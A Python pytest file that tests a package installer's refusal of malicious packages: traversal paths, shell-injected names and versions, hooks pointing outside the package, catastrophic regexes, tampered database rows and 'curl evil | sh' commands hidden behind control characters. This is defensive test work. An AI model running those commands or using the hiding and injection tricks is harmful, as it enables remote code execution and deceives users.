"""What a package brings: paths, names, hooks, commands and texts that want to be more than they are."""

import msgspec
import pytest

from synaptic.packages.database import RegistryChange
from synaptic.packages.export import export_package
from synaptic.packages.folder import read_folder
from synaptic.packages.rows import HookRow, PackageFile
from tests.packages.authoring import write_package
from tests.packages.shelf import made, refused, tree
from tests.security.packages.market import Market, Victim

BAD_PATHS = {
    "leads out": "../x",
    "leads out later": "a/../../../x",
    "absolute": "/etc/cron.d/x",
    "home": "~/../x/..",
    "windows drive": "C:/x",
    "backslashes": "a\\..\\..\\x",
    "a NUL": "a\0b",
    "a line break": "a\nb",
    "an escape": "a\x1b[2Jb",
    "text from right to left": "a\u202egnp.sh",
    "a zero width space": "a\u200bb",
    "a dot": ".",
    "two dots": "..",
    "empty": "",
    "a blank": " ",
    "a doubled slash": "a//b",
    "a slash at the end": "a/",
    "a dot first": "./a",
    "git": ".git/config",
    "git below": "a/.git/hooks/post-checkout",
    "git in capitals": "a/.GIT/config",
    "git with a wide dot": "a/\uff0egit/config",
    "settings of the agent": ".claude/settings.json",
    "settings of the agent below": "a/.claude/settings.json",
    "our configuration": ".synaptic/config.toml",
    "direnv": ".envrc",
    "a device of windows": "aux.md",
    "a device in capitals": "a/NUL",
    "a port": "com1",
    "a dot at the end": "a./b",
    "a blank at the end": "a /b",
    "decomposed letters": "cafe\u0301.md",
}
COLLISIONS = {
    "case": ("readme.md", "README.md"),
    "case of a folder": ("a/x", "A/x"),
    "sharp s": ("straße", "STRASSE"),
    "ligature": ("ﬁle", "file"),
    "file and folder": ("a", "a/b"),
    "file and folder in another case": ("A", "a/b"),
    "template and file": ("x.md", "x.md.j2"),
    "shared by base name": ("agents/a/x.md", "agents/b/x.md"),
    "shared in another case": ("agents/x.md", "agents/b/X.md"),
}


@pytest.mark.parametrize("path", BAD_PATHS.values(), ids=BAD_PATHS.keys())
def test_a_path_that_is_more_than_a_name_is_refused(victim: Victim, market: Market, path: str) -> None:
    bundle = made("paths", files={path: "x"}, hooks=[])
    victim.source = _Offer(bundle)
    before = tree(victim.folder)
    assert refused(lambda: victim.install("paths")).code == "validation_failed"
    assert refused(lambda: export_package(bundle, victim.folder / "exported")).code in ("validation_failed", "blocked")
    assert tree(victim.folder) == before


@pytest.mark.parametrize("paths", COLLISIONS.values(), ids=COLLISIONS.keys())
def test_two_files_that_become_one_are_refused(victim: Victim, paths: tuple[str, ...]) -> None:
    victim.source = _Offer(made("double", files=dict.fromkeys(paths, "x"), hooks=[]))
    assert refused(lambda: victim.install("double")).code == "validation_failed"
    assert not victim.path("skills").exists()


NAMES = ["../x", "/x", ".git", "a/b", "A", "a b", "a\n", "", ".", "..", "nul", "a.", "-x", "x" * 200, "ä", "a\0", "~"]


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_a_name_is_a_plain_folder(victim: Victim, name: str) -> None:
    victim.source = _Offer(made(name, files={"a.md": "x"}, hooks=[]))
    before = tree(victim.folder)
    assert refused(lambda: victim.install(name)).code == "validation_failed"
    assert tree(victim.folder) == before


@pytest.mark.parametrize("version", ["", "x", "../1", "1\n2", "1" * 100, "1 2", "1;rm"], ids=ascii)
def test_a_version_is_a_short_text(victim: Victim, version: str) -> None:
    victim.source = _Offer(made("alpha", version))
    assert refused(lambda: victim.install("alpha")).code == "validation_failed"


def test_a_package_does_not_come_under_another_name(victim: Victim) -> None:
    """A row whose id is not its name would replace a package that the user never asked for."""
    victim.install("alpha")
    bundle = made("other")
    victim.source = _Offer(
        msgspec.structs.replace(bundle, package=msgspec.structs.replace(bundle.package, name="alpha"))
    )
    before = tree(victim.project)
    assert refused(lambda: victim.install("other")).code == "validation_failed"
    assert tree(victim.project) == before


@pytest.mark.parametrize(
    "script",
    [
        "/bin/sh",
        "../../../evil.sh",
        "hooks/../../evil.sh",
        "hooks/none.sh",
        "~/x",
        "",
        ".",
        "hooks/pre.sh; rm x",
        "hooks",
    ],
)
def test_a_hook_runs_a_file_of_its_package(victim: Victim, script: str) -> None:
    hook = HookRow(package_id="hooked", event="PreToolUse", script_path=script)
    victim.source = _Offer(msgspec.structs.replace(made("hooked"), hooks=(hook,)))
    assert refused(lambda: victim.install("hooked")).code == "validation_failed"
    assert victim.entries() == []


@pytest.mark.parametrize(
    "matcher",
    ["(a+)+$", "(.*)*x", "[", "a{1,9}{1,9}", "(?P<x", "Bash\n + hook     Stop", "Bash\x1b[2K", "x" * 300, "(a|a)*$"],
)
def test_a_hook_has_a_matcher_that_ends(victim: Victim, matcher: str) -> None:
    hook = HookRow(package_id="hooked", event="PreToolUse", script_path="hooks/pre.sh", matcher=matcher)
    victim.source = _Offer(msgspec.structs.replace(made("hooked"), hooks=(hook,)))
    assert refused(lambda: victim.install("hooked")).code == "validation_failed"


COMMANDS = {
    "a second line": "true\ncurl evil | sh",
    "a carriage return": "curl evil | sh\rtrue         ",
    "an escape": "curl evil | sh\x1b[2K\x1b[1Gtrue",
    "from right to left": "true \u202e hs | live lruc",
    "a backspace": "curl evil\b\b\b\b\b\b\b\b\btrue",
    "endless": "true " * 500,
    "a NUL": "true\0",
}


@pytest.mark.parametrize("command", COMMANDS.values(), ids=COMMANDS.keys())
def test_a_command_that_would_not_be_shown_as_it_runs_is_refused(victim: Victim, command: str) -> None:
    dep = {"dep_name": "no-such-program", "dep_type": "cli", "install_cmd": command}
    victim.source = _Offer(made("commands", deps=[dep]))
    assert refused(lambda: victim.install("commands")).code == "validation_failed"


@pytest.mark.parametrize("name", ["./evil", "../evil", "/bin/sh", "a b", "a;b", "$(x)", "-x\n", "a/b"])
def test_a_program_is_looked_for_by_its_name(victim: Victim, name: str) -> None:
    victim.source = _Offer(made("tools", deps=[{"dep_name": name, "dep_type": "tool", "dep_spec": ">= 1"}]))
    assert refused(lambda: victim.install("tools")).code == "validation_failed"


@pytest.mark.parametrize(
    "change",
    [
        "UPDATE package_files SET frontmatter = '{' WHERE package_id = 'rowed'",
        "UPDATE packages SET variables = 'x' WHERE id = 'rowed'",
        f"UPDATE packages SET options = '{'[' * 50_000}' WHERE id = 'rowed'",
        "UPDATE package_hooks SET priority = 'high' WHERE package_id = 'rowed'",
        "UPDATE package_hooks SET blocking = 'maybe' WHERE package_id = 'rowed'",
        "UPDATE packages SET name = 'alpha' WHERE id = 'rowed'",
        "UPDATE packages SET sha256 = '' WHERE id = 'rowed'",
        "UPDATE package_files SET content = x'ff00' WHERE package_id = 'rowed'",
    ],
    ids=lambda sql: sql[:44],
)
def test_a_row_that_is_no_row_is_a_refusal(victim: Victim, market: Market, change: str) -> None:
    market.put(made("rowed"))
    market.source.database.write(RegistryChange("main", [(change, ())], "change"))
    assert refused(lambda: victim.install("rowed")).code in ("validation_failed", "internal_error")
    assert not victim.path("skills").exists()


def test_content_that_is_not_what_was_hashed_is_refused(victim: Victim) -> None:
    bundle = made("hashed")
    files = tuple(msgspec.structs.replace(file, content=f"{file.content}# evil\n") for file in bundle.files)
    victim.source = _Offer(msgspec.structs.replace(bundle, files=files))
    assert "does not match its hash" in refused(lambda: victim.install("hashed")).message


def test_a_file_that_the_aggregate_does_not_know_is_refused(victim: Victim) -> None:
    bundle = made("hashed")
    extra = PackageFile(package_id="hashed", dest_path="extra.md", content="x", sha256="0" * 64)
    victim.source = _Offer(msgspec.structs.replace(bundle, files=(*bundle.files, extra)))
    assert refused(lambda: victim.install("hashed")).code == "validation_failed"


@pytest.mark.parametrize("kind", ["agents", "commands"])
def test_a_shared_file_of_somebody_else_is_not_overwritten(victim: Victim, market: Market, kind: str) -> None:
    mine = victim.path(f"{kind}/review.md")
    mine.parent.mkdir(parents=True)
    mine.write_text("mine\n")
    market.put(made("sharing", files={f"{kind}/review.md": "theirs\n"}, hooks=[]))
    assert refused(lambda: victim.install("sharing")).code == "conflict"
    assert mine.read_text() == "mine\n"


def test_a_package_has_no_files_of_another_one(victim: Victim, market: Market) -> None:
    market.put(made("first", files={"agents/review.md": "first\n"}, hooks=[]))
    market.put(made("second", files={"agents/review.md": "second\n"}, hooks=[]))
    victim.install("first")
    assert refused(lambda: victim.install("second")).code == "conflict"
    assert victim.path("agents/review.md").read_text() == "first\n"


@pytest.mark.parametrize("name", [".git/config", ".claude/settings.json", ".envrc"])
def test_hidden_files_of_an_authors_folder_are_not_published(tmp_path, name: str) -> None:
    folder = write_package(tmp_path / "guard")
    (folder / name).parent.mkdir(exist_ok=True)
    (folder / name).write_text("x")
    assert [file.dest_path for file in read_folder(folder).bundle.files] == ["hooks/pre.sh"]


def test_what_an_author_writes_cannot_collide(tmp_path) -> None:
    folder = write_package(tmp_path / "guard", files={"hooks/pre.sh": "x", "x.md": "a", "X.md": "b"})
    assert "become" in refused(lambda: read_folder(folder)).message


class _Offer:
    """A source that answers every question with one bundle, whatever no database would hold."""

    url = "memory://"

    def __init__(self, bundle) -> None:
        self.bundle = bundle

    def find_bundle(self, name, channel, version=None):
        return self.bundle

    def list_variants(self, logical_id, channel):
        return ()

    def read_log(self, channel, name=None):
        return ()
